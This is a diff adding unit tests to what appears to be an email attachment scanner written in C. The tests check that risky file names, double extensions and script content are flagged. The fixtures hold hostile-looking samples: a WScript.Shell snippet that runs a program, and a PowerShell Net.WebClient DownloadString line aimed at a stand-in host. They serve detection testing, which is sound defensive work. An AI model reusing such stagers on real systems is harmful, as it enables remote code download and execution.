@@ -575,6 +575,57 @@ static void test_run_unreadable(void **state)
 	sl_msg_free(m);
 }
 
+/* A dangerous extension counts whatever the content: programs too, on every
+ * name a reader could show (issue 12, section 3). */
+static void test_run_dangerous_name_any_content(void **state)
+{
+	struct fx *f = *state;
+	struct sl_msg *m = new_msg();
+	static const char text[] = "just some words\n";
+	int exe = attach(m, "application/octet-stream", "readme.exe", text, strlen(text));
+	int bin = attach(m, "application/octet-stream", "ATT00001.bin", text, strlen(text));
+	int other = attach(m, "application/octet-stream", "notes.txt", text, strlen(text));
+	int lnk = attach(m, "application/octet-stream", "doc.pdf", text, strlen(text));
+	sl_msg_part_add_name(m, other, "notes.txt"); /* the same name twice: kept once */
+	sl_msg_part_add_name(m, other, "invoice.js (.txt)");
+	sl_msg_part_add_name(m, other, "invoice.js");
+	assert_int_equal(m->parts[other].nnames, 2);
+	sl_msg_part_add_name(m, lnk, "doc.pdf.lnk");
+	run(f, m);
+	expect(m, SL_FIND_FILENAME, "executable", exe);
+	expect_not(m, SL_FIND_FILENAME, "executable", bin); /* Outlook's name for unnamed parts */
+	expect_not(m, SL_FIND_FILETYPE, NULL, bin);
+	expect(m, SL_FIND_FILENAME, "script", other);
+	expect(m, SL_FIND_FILENAME, "shortcut", lnk);
+	expect(m, SL_FIND_FILENAME, "double_extension", lnk);
+	sl_msg_free(m);
+}
+
+/* A text file that drives Windows Script Host or PowerShell is a script
+ * whatever its name (a reader may show another); the text people read is
+ * not, whatever it quotes. */
+static void test_run_script_content(void **state)
+{
+	struct fx *f = *state;
+	struct sl_msg *m = new_msg();
+	static const char wsh[] = "var sh = new ActiveXObject(\"WScript.Shell\");\r\nsh.Run(\"calc\");\r\n";
+	static const char ps[] = "$c = (New-Object Net.WebClient).DownloadString('http://x.test/a');\n";
+	static const char note[] = "Meeting notes: bring the shell scripts and the ActiveX report.\n";
+	int a = attach(m, "application/octet-stream", "statement", wsh, strlen(wsh));
+	int b = attach(m, "text/plain", "notes.txt", ps, strlen(ps));
+	int c = attach(m, "text/plain", "minutes.txt", note, strlen(note));
+	int body = sl_msg_find_part(m, "1");
+	free(m->parts[body].data);
+	m->parts[body].data = (unsigned char *)sl_xstrdup(wsh);
+	m->parts[body].data_len = m->parts[body].size = strlen(wsh);
+	run(f, m);
+	expect(m, SL_FIND_FILETYPE, "script", a);
+	expect(m, SL_FIND_FILETYPE, "script", b);
+	expect_not(m, SL_FIND_FILETYPE, "script", c);
+	expect_not(m, SL_FIND_FILETYPE, "script", body);
+	sl_msg_free(m);
+}
+
 static void test_free_null(void **state)
 {
 	assert_null(sl_filetype_free(NULL));
@@ -597,6 +648,8 @@ int main(void)
 		cmocka_unit_test_setup_teardown(test_run_shortcut_and_image, setup, teardown),
 		cmocka_unit_test(test_compressed_streams),
 		cmocka_unit_test_setup_teardown(test_run_unreadable, setup, teardown),
+		cmocka_unit_test_setup_teardown(test_run_dangerous_name_any_content, setup, teardown),
+		cmocka_unit_test_setup_teardown(test_run_script_content, setup, teardown),
 		cmocka_unit_test(test_free_null),
 	};
 	return cmocka_run_group_tests(tests, NULL, NULL);
